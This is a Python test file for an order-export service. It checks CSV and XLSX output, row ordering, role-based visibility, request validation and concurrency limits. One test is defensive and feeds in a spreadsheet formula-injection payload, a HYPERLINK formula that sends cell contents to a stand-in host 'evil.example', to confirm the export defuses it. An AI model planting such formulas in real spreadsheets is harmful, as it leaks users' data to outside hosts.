"""Lists of orders as CSV and XLSX."""

import asyncio
import csv
import io
from typing import Any

import openpyxl
import pytest
from commis.orders.v1 import entry_pb2, entry_pb2_grpc
from commis.orders.v1 import orders_pb2 as pb
from openpyxl.utils.escape import unescape

from chassis.ids import new_id
from chassis.testing import as_customer, as_rep, as_service
from orders.exports import files, use_cases
from orders.exports.columns import HEADING
from orders.exports.rpc import MAX_OF_CALLER
from services.orders.tests.shop import Shop, found, refused

CSV, XLSX = entry_pb2.ExportOrdersRequest.FORMAT_CSV, entry_pb2.ExportOrdersRequest.FORMAT_XLSX


async def exported(shop: Shop, form: int, who: Any = None, **fields: Any) -> bytes:
    stub = entry_pb2_grpc.OrderExportServiceStub(shop.channel)
    request = entry_pb2.ExportOrdersRequest(format=form, filter=pb.ListOrdersRequest(**fields))
    return b"".join([part.content async for part in stub.ExportOrders(request, metadata=who or shop.staff)])


def table(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def workbook(content: bytes) -> list[dict[str, Any]]:
    heading, *rows = openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True)
    return [dict(zip(heading, row, strict=True)) for row in rows]


@pytest.mark.spec("O-34")
async def test_a_file_has_what_the_list_has_in_its_order(shop: Shop, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(use_cases, "PAGE", 3)  # so that pages follow each other
    for number in range(7):
        await shop.sheet(("C", 1 + 3 * number % 5), order_reference=f"ref {number}")
    await shop.place((await shop.sheet(("A", 2), order_reference='été; "2026"\nnext')).id)
    for sort in (pb.ORDER_SORT_NEWEST, pb.ORDER_SORT_OLDEST, pb.ORDER_SORT_TOTAL_HIGHEST):
        listed = await shop.orders.ListOrders(pb.ListOrdersRequest(sort=sort), metadata=shop.staff)
        wanted = [each.id for each in listed.orders]
        assert [row["id"] for row in table(await exported(shop, CSV, sort=sort))] == wanted
        assert [row["id"] for row in workbook(await exported(shop, XLSX, sort=sort))] == wanted
    placed = {"states": [pb.Order.STATE_PLACED]}
    (row,) = table(await exported(shop, CSV, **placed))
    assert list(row) == HEADING
    order = await shop.get(row["id"])
    assert (row["number"], row["state"], row["currency"]) == (order.number, "PLACED", "EUR")
    assert (row["order_reference"], row["customer"]) == ('été; "2026"\nnext', "Boekhandel De Linde")
    assert (row["goods"], row["shipping"], row["line_count"]) == ("39.90", "6.50", "1")
    assert row["create_time"] == order.create_time.ToDatetime().strftime("%Y-%m-%dT%H:%M:%SZ")
    (cells,) = workbook(await exported(shop, XLSX, **placed))
    assert (cells["goods"], cells["weight_grams"]) == (39.9, 1000)
    assert cells["order_reference"] == row["order_reference"]


@pytest.mark.spec("O-34")
@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "'=", "''-"])
async def test_no_cell_is_a_formula(shop: Shop, begin: str) -> None:
    text = f'{begin}HYPERLINK("http://evil.example?"&A1)'
    sheet = await shop.sheet(("A", 1), order_reference=text, cost_centre="_x0041_ 5 - 3 =")
    (row,) = table(await exported(shop, CSV))
    (cells,) = workbook(await exported(shop, XLSX))
    assert (row["id"], row["order_reference"]) == (sheet.id, f"'{text}")
    assert cells["order_reference"] == f"'{text}"
    assert unescape(cells["cost_centre"]) == row["cost_centre"] == "_x0041_ 5 - 3 ="
    book = openpyxl.load_workbook(io.BytesIO(await exported(shop, XLSX)))
    kinds = {cell.data_type for row in book.active.iter_rows() for cell in row if cell.value is not None}
    assert kinds <= {"s", "n", "inlineStr"}


@pytest.mark.spec("O-34", "A-12")
async def test_everybody_exports_what_they_see(shop: Shop) -> None:
    foreign = shop.customers.add()
    user = as_customer(new_id(), shop.account, "USER")
    mine, own = await shop.sheet(("A", 1)), await shop.sheet(("A", 1), who=user)
    other = await shop.sheet(("A", 1), who=as_customer(new_id(), foreign))

    async def seen(who: Any, **fields: Any) -> set[str]:
        return {row["id"] for row in table(await exported(shop, CSV, who, **fields))}

    assert await seen(shop.staff) == {mine.id, own.id, other.id}
    assert await seen(as_rep(shop.rep)) == await seen(shop.customer) == {mine.id, own.id}
    assert await seen(user) == {own.id}
    assert await seen(as_rep(new_id())) == await seen(shop.customer, account_id=str(foreign)) == set()
    assert await seen(shop.staff, sort=pb.ORDER_SORT_PLACED_NEWEST, states=[pb.Order.STATE_DRAFT]) == set()
    async with refused("PERMISSION_DENIED"):
        await seen(as_service("orders.placement"))


async def test_wrong_requests_are_refused_before_anything_is_sent(shop: Shop) -> None:
    async with refused("INVALID_FIELDS") as errors:
        await exported(shop, 0, account_id="x", query="y" * 101, sort=77)
    assert found(errors) == {
        ("format", "REQUIRED"),
        ("filter.account_id", "INVALID"),
        ("filter.query", "TOO_LONG"),
        ("filter.sort", "INVALID"),
    }


async def test_a_sheet_has_an_end(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(files, "MAX_ROWS", 2)

    async def rows() -> Any:
        for _ in range(3):
            yield [["x"]]

    with pytest.raises(files.TooManyRows):
        [part async for part in files.as_xlsx(rows())]
    assert b"".join([part async for part in files.as_csv(rows())]).count(b"x") == 3


class Held:
    """Exports that begin and wait."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.began = asyncio.Semaphore(0)
        self.gate = asyncio.Event()
        monkeypatch.setattr(use_cases, "export_orders", self._export)

    async def _export(self, infra: Any, command: Any) -> Any:
        self.began.release()
        await self.gate.wait()
        yield [["x"]]

    async def begin(self, shop: Shop, who: Any = None) -> asyncio.Task[bytes]:
        task = asyncio.create_task(exported(shop, CSV, who))
        await self.began.acquire()
        return task


async def test_a_few_exports_at_once(shop: Shop, monkeypatch: pytest.MonkeyPatch) -> None:
    """One too many is told to come back; one that ended makes room."""
    held = Held(monkeypatch)
    monkeypatch.setattr("orders.exports.rpc.MAX_AT_ONCE", 1)
    first = await held.begin(shop)
    async with refused("EXPORTS_BUSY"):
        await exported(shop, CSV, shop.customer)
    held.gate.set()
    assert (await first).endswith(b"x\r\n")
    assert (await exported(shop, CSV)).endswith(b"x\r\n")


@pytest.mark.spec("O-34")
async def test_nobody_keeps_the_others_from_their_exports(
    shop: Shop, monkeypatch: pytest.MonkeyPatch
) -> None:
    held = Held(monkeypatch)
    mine = [await held.begin(shop, shop.customer) for _ in range(MAX_OF_CALLER)]
    async with refused("EXPORTS_BUSY") as errors:
        await exported(shop, CSV, shop.customer)
    assert errors[0].metadata["limit"] == str(MAX_OF_CALLER)
    another = await held.begin(shop)
    mine.pop().cancel()  # whoever leaves makes room, too
    mine.append(await _begun(held, shop))
    held.gate.set()
    assert all(content.endswith(b"x\r\n") for content in await asyncio.gather(another, *mine))


async def _begun(held: Held, shop: Shop) -> asyncio.Task[bytes]:
    """As soon as the service has noticed."""
    while True:
        task = asyncio.create_task(exported(shop, CSV, shop.customer))
        began = asyncio.create_task(held.began.acquire())
        await asyncio.wait((task, began), return_when=asyncio.FIRST_COMPLETED)
        if began.done():
            return task
        began.cancel()
        assert "EXPORTS_BUSY" in str(task.exception())
